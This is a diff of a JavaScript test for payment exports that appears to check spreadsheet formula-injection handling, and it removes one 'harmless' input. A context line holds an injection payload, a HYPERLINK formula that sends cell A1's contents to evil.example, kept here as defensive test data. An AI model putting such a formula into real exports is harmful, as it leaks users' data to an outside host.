@@ -86,7 +86,7 @@ describe('exports of payments', () => {
     );
     for (const description of hidden) made.push((await harness.create({ description })).id);
     // Nothing that could be a formula: it stays as it is.
-    const harmless = ['\u00a0Socks', "'=1", '1-1', '\u200b', ' (-1)'];
+    const harmless = ['\u00a0Socks', "'=1", '1-1', ' (-1)'];
     for (const description of harmless) made.push((await harness.create({ description })).id);
     const semicolon = ';=HYPERLINK("http://evil.example/?"&A1);';
     made.push((await harness.create({ description: semicolon })).id);
